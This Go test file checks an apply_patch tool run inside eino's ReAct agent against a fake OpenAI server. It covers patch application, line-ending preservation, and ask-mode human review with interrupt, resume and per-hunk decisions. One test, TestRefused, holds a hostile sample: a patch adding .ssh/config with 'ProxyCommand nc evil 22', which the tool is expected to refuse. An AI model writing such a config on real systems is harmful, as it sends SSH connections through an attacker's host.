package einotool

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/applypatch/applypatch"
	"github.com/cloudwego/eino-ext/components/model/openai"
	"github.com/cloudwego/eino/components/tool"
	"github.com/cloudwego/eino/compose"
	"github.com/cloudwego/eino/flow/agent/react"
	"github.com/cloudwego/eino/schema"
	"github.com/spf13/afero"
)

// fakeAPI is a local OpenAI chat-completions API: it answers POST /chat/completions with
// the next of its replies and keeps every request body it was sent.
type fakeAPI struct {
	mu       sync.Mutex
	replies  []string
	requests []map[string]any
}

// ServeHTTP answers one request with the next reply.
func (f *fakeAPI) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	f.mu.Lock()
	defer f.mu.Unlock()
	if r.Method != http.MethodPost || r.URL.Path != "/chat/completions" || len(f.replies) == 0 {
		http.Error(w, `{"error":{"message":"unexpected request"}}`, http.StatusBadRequest)
		return
	}
	b, _ := io.ReadAll(r.Body)
	var req map[string]any
	json.Unmarshal(b, &req)
	f.requests = append(f.requests, req)
	w.Header().Set("Content-Type", "application/json")
	io.WriteString(w, f.replies[0])
	f.replies = f.replies[1:]
}

// completion is a chat completion whose one choice is message.
func completion(message map[string]any, finish string) string {
	b, _ := json.Marshal(map[string]any{"id": "chatcmpl-1", "object": "chat.completion", "created": 1767225600, "model": "gpt-test",
		"choices": []any{map[string]any{"index": 0, "message": message, "finish_reason": finish}},
		"usage":   map[string]any{"prompt_tokens": 10, "completion_tokens": 5, "total_tokens": 15}})
	return string(b)
}

// patchCall is a completion calling apply_patch with the patch as "patchText"; more
// pairs of call ID and patch make more calls in the same message.
func patchCall(idsAndPatches ...string) string {
	var calls []any
	for i := 0; i+1 < len(idsAndPatches); i += 2 {
		args, _ := json.Marshal(map[string]string{"patchText": idsAndPatches[i+1]})
		calls = append(calls, map[string]any{"id": idsAndPatches[i], "type": "function",
			"function": map[string]any{"name": "apply_patch", "arguments": string(args)}})
	}
	return completion(map[string]any{"role": "assistant", "content": "", "tool_calls": calls}, "tool_calls")
}

// final is a completion with the model's last answer.
func final(text string) string {
	return completion(map[string]any{"role": "assistant", "content": text}, "stop")
}

// newAgent returns a ReAct agent whose model is eino-ext's OpenAI ChatModel talking to a
// local server that answers with replies, and whose one tool is apply_patch over a
// workspace /ws in memory with files.
func newAgent(t *testing.T, mode applypatch.Mode, files map[string]string, replies ...string) (*react.Agent, *fakeAPI, afero.Fs) {
	t.Helper()
	t.Setenv("XDG_STATE_HOME", t.TempDir())
	api := &fakeAPI{replies: replies}
	srv := httptest.NewServer(api)
	t.Cleanup(srv.Close)
	fsys := afero.NewMemMapFs()
	for name, text := range files {
		afero.WriteFile(fsys, "/ws/"+name, []byte(text), 0o644)
	}
	ctx := context.Background()
	cm, err := openai.NewChatModel(ctx, &openai.ChatModelConfig{BaseURL: srv.URL, APIKey: "test-key", Model: "gpt-test"})
	if err != nil {
		t.Fatal(err)
	}
	patch := New(&applypatch.Tool{FS: fsys, Options: applypatch.Options{Workspace: "/ws", Mode: mode}})
	patch.Log = testLog{t}
	agent, err := react.NewAgent(ctx, &react.AgentConfig{ToolCallingModel: cm, MaxStep: 12,
		ToolsConfig: compose.ToolsNodeConfig{Tools: []tool.BaseTool{patch}}})
	if err != nil {
		t.Fatal(err)
	}
	return agent, api, fsys
}

// testLog writes the tool's transcript lines to the test log.
type testLog struct{ t *testing.T }

// Write logs one transcript line.
func (l testLog) Write(p []byte) (int, error) {
	l.t.Log("apply_patch: " + strings.TrimSpace(string(p)))
	return len(p), nil
}

// fileText returns a file's text, or the error reading it.
func fileText(fsys afero.Fs, name string) string {
	b, err := afero.ReadFile(fsys, name)
	if err != nil {
		return "<" + err.Error() + ">"
	}
	return string(b)
}

// toolResult returns what request i sent back for the tool call callID, logging the
// call it answers.
func toolResult(t *testing.T, api *fakeAPI, i int, callID string) string {
	t.Helper()
	if len(api.requests) <= i {
		t.Fatalf("%d requests, want more than %d", len(api.requests), i)
	}
	msgs, _ := api.requests[i]["messages"].([]any)
	for _, m := range msgs {
		m, _ := m.(map[string]any)
		if m["role"] == "assistant" {
			calls, _ := json.Marshal(m["tool_calls"])
			t.Logf("tool call in: %s", calls)
		}
		if m["role"] == "tool" && m["tool_call_id"] == callID {
			text, _ := m["content"].(string)
			t.Logf("result out (%s): %q", callID, text)
			return text
		}
	}
	t.Fatalf("request %d carries no result for %s: %v", i, callID, msgs)
	return ""
}

// run runs the agent on one task and checks that the final answer arrives.
func run(t *testing.T, agent *react.Agent) {
	t.Helper()
	msg, err := agent.Generate(context.Background(), []*schema.Message{schema.UserMessage("edit the workspace")})
	if err != nil || msg.Content != "Done." {
		t.Fatalf("Generate = %v, %v", msg, err)
	}
}

// TestApplied runs eino's ReAct loop: the model calls apply_patch, the file is changed,
// the result text goes back as the tool message, and the final answer arrives. The
// model was offered the tool of Tool.Definition().
func TestApplied(t *testing.T) {
	agent, api, fsys := newAgent(t, applypatch.ModeEdits, map[string]string{"greet.txt": "hello\nworld\n"},
		patchCall("call_1", "*** Begin Patch\n*** Update File: greet.txt\n@@\n hello\n-world\n+there\n*** End Patch"), final("Done."))
	run(t, agent)
	if got := fileText(fsys, "/ws/greet.txt"); got != "hello\nthere\n" {
		t.Errorf("greet.txt = %q", got)
	}
	if got := toolResult(t, api, 1, "call_1"); got != "Applied patch: 1 change\nApplied: greet.txt hunk 1" {
		t.Errorf("result = %q", got)
	}
	tools, _ := api.requests[0]["tools"].([]any)
	def := (&applypatch.Tool{}).Definition()
	var want any
	json.Unmarshal(def.Parameters, &want)
	fn, _ := func() (map[string]any, bool) {
		if len(tools) != 1 {
			return nil, false
		}
		tl, _ := tools[0].(map[string]any)
		f, ok := tl["function"].(map[string]any)
		return f, ok
	}()
	got, _ := json.Marshal(fn["parameters"])
	wantJSON, _ := json.Marshal(want)
	if fn["name"] != "apply_patch" || fn["description"] != def.Description || string(got) != string(wantJSON) {
		t.Errorf("tools offered = %v", api.requests[0]["tools"])
	}
}

// TestRefused: a patch writing .ssh/config, a credential path, comes back to the model as
// a refusal text; nothing is written and the run goes on to the final answer.
func TestRefused(t *testing.T) {
	agent, api, fsys := newAgent(t, applypatch.ModeFullAuto, nil,
		patchCall("call_ssh", "*** Begin Patch\n*** Add File: .ssh/config\n+Host *\n+  ProxyCommand nc evil 22\n*** End Patch"), final("Done."))
	run(t, agent)
	got := toolResult(t, api, 1, "call_ssh")
	if !strings.HasPrefix(got, "Error: ") || !strings.Contains(got, ".ssh/config") || !strings.Contains(got, "credential") {
		t.Errorf("result = %q, want a refusal naming the credential path", got)
	}
	if _, err := fsys.Stat("/ws/.ssh"); err == nil {
		t.Error("the credential path was written")
	}
}

// TestCRLFTabs: a tab-indented CRLF file comes back byte-identical except for the change.
func TestCRLFTabs(t *testing.T) {
	const before = "package main\r\n\r\nfunc main() {\r\n\tif ok {\r\n\t\tx := 1\r\n\t}\r\n}\r\n"
	agent, _, fsys := newAgent(t, applypatch.ModeEdits, map[string]string{"main.go": before},
		patchCall("call_1", "*** Begin Patch\n*** Update File: main.go\n@@ func main() {\n \tif ok {\n-\t\tx := 1\n+\t\tx := 2\n \t}\n*** End Patch"), final("Done."))
	run(t, agent)
	if got, want := fileText(fsys, "/ws/main.go"), strings.Replace(before, "x := 1", "x := 2", 1); got != want {
		t.Errorf("main.go = %q, want %q", got, want)
	}
}

// paused runs a resumable ReAct agent in ask mode over notes.txt until the model's
// call of patch pauses it, checks that nothing was written, and returns the runnable,
// the paused review and what the run needs to resume.
func paused(t *testing.T, patch string) (compose.Runnable[[]*schema.Message, *schema.Message], Pending, *fakeAPI, afero.Fs) {
	t.Helper()
	agent, api, fsys := newAgent(t, applypatch.ModeAsk, map[string]string{"notes.txt": notes}, patchCall("call_ask", patch), final("Done."))
	r, err := Resumable(context.Background(), agent, &MemoryStore{})
	if err != nil {
		t.Fatal(err)
	}
	_, err = r.Invoke(context.Background(), askInput, compose.WithCheckPointID("run-1"))
	pending := Reviews(err)
	if len(pending) != 1 {
		t.Fatalf("Invoke error = %v, want one paused review", err)
	}
	if got := fileText(fsys, "/ws/notes.txt"); got != notes {
		t.Fatalf("the paused call wrote notes.txt: %q", got)
	}
	return r, pending[0], api, fsys
}

// resume runs the paused run again from its checkpoint id with ctx and checks that the
// final answer arrives.
func resume(ctx context.Context, t *testing.T, r compose.Runnable[[]*schema.Message, *schema.Message], id string) {
	t.Helper()
	msg, err := r.Invoke(ctx, askInput, compose.WithCheckPointID(id))
	if err != nil || msg.Content != "Done." {
		t.Fatalf("resumed Invoke = %v, %v", msg, err)
	}
}

const (
	notes     = "one\ntwo\nthree\nfour\nfive\nsix\nseven\neight\nnine\nten\n"
	twoHunks  = "*** Begin Patch\n*** Update File: notes.txt\n@@\n one\n-two\n+TWO\n three\n@@\n eight\n-nine\n+NINE\n ten\n*** End Patch"
	oneChange = "*** Begin Patch\n*** Update File: notes.txt\n@@\n one\n-two\n+TWO\n*** End Patch"
)

var askInput = []*schema.Message{schema.UserMessage("capitalise two and nine")}

// TestAskRoundTrip: in ask mode the call interrupts eino's run; the interrupt carries the
// review (it names the file and lists both hunks), the run resumes from its checkpoint
// with a decision selecting hunk 1 of 2, only that hunk is written and the model is told
// hunk 2 was rejected.
func TestAskRoundTrip(t *testing.T) {
	r, p, api, fsys := paused(t, twoHunks)
	req := p.Request
	t.Logf("interrupt %s, the person sees:\n%s", p.ID, req.Review)
	if req.CallID != "call_ask" || !strings.Contains(req.Review, "notes.txt") || !strings.Contains(req.Card.Diff, "*** Update File: notes.txt") ||
		req.Header != "ApplyPatch · 1 file · 2/2 changes · +2 −2" {
		t.Errorf("review request = %+v", req)
	}
	if len(req.Choices) != 3 || req.Choices[1].Target != (applypatch.Target{File: 1, Hunk: 1}) || req.Choices[2].Target != (applypatch.Target{File: 1, Hunk: 2}) {
		t.Errorf("choices = %+v, want the file and its 2 hunks", req.Choices)
	}
	resume(compose.ResumeWithData(context.Background(), p.ID, Decision{Only: []applypatch.Target{req.Choices[1].Target}}), t, r, "run-1")
	if got, want := fileText(fsys, "/ws/notes.txt"), strings.Replace(notes, "two", "TWO", 1); got != want {
		t.Errorf("notes.txt = %q, want %q", got, want)
	}
	if got := toolResult(t, api, 1, "call_ask"); got != "Applied patch: 1 change\nApplied: notes.txt hunk 1\nRejected: notes.txt hunk 2" {
		t.Errorf("result = %q", got)
	}
}

// TestDecisions resumes a paused review with each other kind of answer, through eino's
// loop: all (a *Decision works too), reject, feedback, and a resume with no decision;
// only "all" writes, and the model reads what happened.
func TestDecisions(t *testing.T) {
	for _, tc := range []struct {
		name string
		data any // nil resumes without data
		text string
		file string
	}{
		{"all", &Decision{}, "Applied patch: 1 change\nApplied: notes.txt hunk 1", strings.Replace(notes, "two", "TWO", 1)},
		{"reject", Decision{Reject: true}, "Error: Patch rejected", notes},
		{"feedback", Decision{Feedback: "use title case"}, "Patch revision requested…use title case", notes},
		{"none", nil, "Error: the review was resumed without the person's decision, so nothing was written", notes},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r, p, api, fsys := paused(t, oneChange)
			ctx := compose.Resume(context.Background(), p.ID)
			if tc.data != nil {
				ctx = compose.ResumeWithData(context.Background(), p.ID, tc.data)
			}
			resume(ctx, t, r, "run-1")
			got := toolResult(t, api, 1, "call_ask")
			if pre, post, _ := strings.Cut(tc.text, "…"); !strings.HasPrefix(got, pre) || !strings.Contains(got, post) {
				t.Errorf("result = %q, want %q", got, tc.text)
			}
			if got := fileText(fsys, "/ws/notes.txt"); got != tc.file {
				t.Errorf("notes.txt = %q, want %q", got, tc.file)
			}
		})
	}
}

// TestTwoPaused: two calls in one model turn pause together; resuming one applies it
// while the other pauses again with the same review, and resuming that one finishes
// the run.
func TestTwoPaused(t *testing.T) {
	add := func(name string) string { return "*** Begin Patch\n*** Add File: " + name + "\n+new\n*** End Patch" }
	agent, api, fsys := newAgent(t, applypatch.ModeAsk, nil, patchCall("call_a", add("a.txt"), "call_b", add("b.txt")), final("Done."))
	r, err := Resumable(context.Background(), agent, &MemoryStore{})
	if err != nil {
		t.Fatal(err)
	}
	_, err = r.Invoke(context.Background(), askInput, compose.WithCheckPointID("run-2"))
	first := Reviews(err)
	if len(first) != 2 {
		t.Fatalf("Invoke error = %v, want two paused reviews", err)
	}
	byCall := map[string]Pending{}
	for _, p := range first {
		byCall[p.Request.CallID] = p
	}
	_, err = r.Invoke(compose.ResumeWithData(context.Background(), byCall["call_a"].ID, Decision{}), askInput, compose.WithCheckPointID("run-2"))
	again := Reviews(err)
	if len(again) != 1 || again[0].Request.CallID != "call_b" || again[0].Request.Review != byCall["call_b"].Request.Review {
		t.Fatalf("after resuming call_a: %v, want call_b paused again", err)
	}
	if fileText(fsys, "/ws/a.txt") != "new\n" || fileText(fsys, "/ws/b.txt") == "new\n" {
		t.Fatalf("a.txt = %q, b.txt = %q", fileText(fsys, "/ws/a.txt"), fileText(fsys, "/ws/b.txt"))
	}
	resume(compose.ResumeWithData(context.Background(), again[0].ID, Decision{Reject: true}), t, r, "run-2")
	if a, b := toolResult(t, api, 1, "call_a"), toolResult(t, api, 1, "call_b"); a != "Applied patch: 1 change\nApplied: a.txt" || b != "Error: Patch rejected" {
		t.Errorf("results = %q, %q", a, b)
	}
	if _, err := fsys.Stat("/ws/b.txt"); err == nil {
		t.Error("the rejected call wrote b.txt")
	}
}
